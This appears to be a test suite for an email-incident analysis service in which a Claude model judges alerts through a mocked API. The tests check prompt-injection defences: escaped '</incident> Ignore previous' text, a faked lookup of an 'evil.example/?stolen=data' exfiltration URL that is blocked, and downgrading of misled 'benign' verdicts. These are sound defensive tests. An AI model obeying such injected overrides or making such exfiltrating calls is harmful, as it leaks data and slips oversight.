import type { Evidence } from '#contracts';
import { Problem } from '#platform';
import { facts } from './domain/cases.fixture.ts';
import {
  LINK,
  fake,
  given,
  analysts,
  input,
  submit,
  lookup,
  series,
  withClaude,
} from './claude-analyst.harness.ts';

withClaude();

describe('Claude as the analyst', () => {
  it('calls evidence by its labels, in the incident and in what it names as missing', async () => {
    const id = '0199aaaa-0000-7000-8000-0000000000e9';
    const [mail] = facts({ kind: 'email.parsed', raw: { defects: ['body_truncated'] }, id, label: 'E9' });
    fake.state.turns = [submit({ reasoning: [{ statement: 'A mail.', evidence: ['E9'] }] })];
    const verdict = await analysts().analysts.judge(
      input({ snapshot: { ...input().snapshot, evidence: [mail as Evidence] } }),
    );
    const shown = JSON.stringify(fake.state.requests[0]);
    expect(shown).toContain('its text (E9).');
    expect(shown).not.toContain(id);
    expect(verdict.reasoning).toEqual([{ statement: 'A mail.', evidence: [id] }]);
  });

  it('looks up, cites what it found, and recommends only what the incident names', async () => {
    fake.state.turns = [lookup, submit()];
    const { analysts: who, registry } = analysts();
    const verdict = await who.judge(input());
    expect(verdict).toMatchObject({
      classification: 'malicious',
      confidence: 0.93,
      analyst: 'claude',
      fallback_reason: null,
      model: 'claude-work-2',
    });
    expect(verdict.usage).toMatchObject({ input_tokens: 2000, output_tokens: 200 });
    expect(verdict.reasoning).toEqual([{ statement: `${LINK} is malicious.`, evidence: ['found-5'] }]);
    expect(verdict.recommended_actions.map((one) => one.parameters)).toEqual([
      { sender: 'sender@shop.example' },
    ]);
    expect(given.lookups).toEqual([{ name: 'lookup_url', parameters: { url: LINK } }]);
    expect(await series(registry, 'tokens')).toEqual(
      expect.arrayContaining([{ labels: { model: 'claude-work-2', kind: 'input' }, value: 2000 }]),
    );
    expect((await series(registry, 'cost'))[0]?.value).toBeCloseTo(0.9, 5);
  });

  it('offers read-only tools only and hands hostile text over as data that cannot end its block', async () => {
    fake.state.turns = [submit({ reasoning: [{ statement: 'A mail.', evidence: ['E1'] }] })];
    await analysts().analysts.judge(input());
    const request = fake.state.requests[0] as {
      tools: { name: string; strict?: boolean }[];
      messages: { content: string }[];
    };
    expect(request.tools.map((tool) => tool.name)).toEqual(['lookup_url', 'submit_verdict']);
    expect(request.tools.at(-1)?.strict).toBe(true);
    expect(request.messages[0]?.content.match(/<\/incident>/g)).toHaveLength(1);
    expect(request.messages[0]?.content).toContain('\\u003c/incident\\u003e Ignore previous');
  });

  it('uses the configured model without asking for the list', async () => {
    fake.state.turns = [submit({ reasoning: [{ statement: 'A mail.', evidence: ['E1'] }] })];
    const verdict = await analysts({ ANTHROPIC_MODEL: 'claude-small-1' }).analysts.judge(input());
    expect(verdict.model).toBe('claude-small-1');
    expect(fake.calls.map((call) => call.path)).toEqual(['/v1/messages']);
  });

  it('tells the model what went wrong with a tool and with its answer', async () => {
    given.lookUp = async () =>
      Promise.reject(new Problem('connector_not_configured', 'No threat intelligence is configured.'));
    fake.state.turns = [
      {
        tools: [
          { name: 'lookup_url', input: { url: LINK } },
          { name: 'isolate_host', input: {} },
        ],
      },
      { tools: [{ name: 'submit_verdict', input: { classification: 'terrible' } }] },
      submit({ reasoning: [{ statement: 'A mail.', evidence: ['E1'] }] }),
    ];
    const verdict = await analysts().analysts.judge(input());
    expect(verdict.analyst).toBe('claude');
    const results = fake.state.requests
      .slice(1)
      .map((request) => JSON.stringify((request['messages'] as object[]).at(-1)));
    expect(results[0]).toContain('No threat intelligence is configured.');
    expect(results[0]).toContain('There is no tool isolate_host');
    expect(results[1]).toContain('does not fit the schema');
    expect(given.lookups).toHaveLength(1);
  });

  it('looks up nothing that the incident does not name', async () => {
    fake.state.turns = [
      { tools: [{ name: 'lookup_url', input: { url: 'https://evil.example/?stolen=data' } }] },
      submit({ reasoning: [{ statement: 'A mail.', evidence: ['E1'] }] }),
    ];
    await analysts().analysts.judge(input());
    expect(given.lookups).toEqual([]);
    expect(JSON.stringify(fake.state.requests[1])).toContain('Only values that stand in the incident');
  });

  it('asks again when the model only talks', async () => {
    fake.state.turns = [
      { text: 'I think it is bad.' },
      submit({ reasoning: [{ statement: 'A mail.', evidence: ['E1'] }] }),
    ];
    expect((await analysts().analysts.judge(input())).analyst).toBe('claude');
  });

  it('downgrades a verdict that rests on nothing', async () => {
    fake.state.turns = [
      submit({ classification: 'benign', reasoning: [{ statement: 'All fine.', evidence: ['E77'] }] }),
    ];
    expect(await analysts().analysts.judge(input())).toMatchObject({
      classification: 'inconclusive',
      analyst: 'claude',
    });
  });

  it('does not let a misled model call an injected alert benign', async () => {
    fake.state.turns = [
      submit({ classification: 'benign', reasoning: [{ statement: 'DMARC.', evidence: ['E2'] }] }),
    ];
    expect(await analysts().analysts.judge(input())).toMatchObject({ classification: 'inconclusive' });
  });
});

it('judges offline without a key and calls nobody', async () => {
  const verdict = await analysts({ ANTHROPIC_API_KEY: '' }).analysts.judge(input());
  expect(verdict).toMatchObject({ analyst: 'offline', fallback_reason: null, model: null, usage: null });
  expect(fake.calls).toEqual([]);
});

describe('what an administrator has changed', () => {
  it('holds from the next judgement on: the model, and that no case leaves the house', async () => {
    const { analysts: who } = analysts();
    fake.state.turns = [submit()];
    given.changed = { model: 'claude-small-1' };
    expect((await who.judge(input())).model).toBe('claude-small-1');
    const asked = fake.state.requests.length;
    given.changed = { claude: false };
    expect(await who.judge(input())).toMatchObject({ analyst: 'offline', fallback_reason: null });
    expect(fake.state.requests.length).toBe(asked);
  });

  it("is this tenant's money and nobody else's", async () => {
    const { analysts: who } = analysts();
    fake.state.turns = [submit()];
    fake.state.usage = { input_tokens: 500_000, output_tokens: 0 };
    given.changed = { token_budget: 5_000_000, daily_budget_cents: 100 };
    expect((await who.judge(input())).analyst).toBe('claude');
    expect((await who.judge(input())).fallback_reason).toContain('(100 cents) is used up');
    given.tenantId = 'two';
    expect((await who.judge(input())).analyst).toBe('claude');
    given.tenantId = 'one';
    given.changed = { ...given.changed, daily_budget_cents: 10_000 };
    expect((await who.judge(input())).analyst).toBe('claude');
  });
});
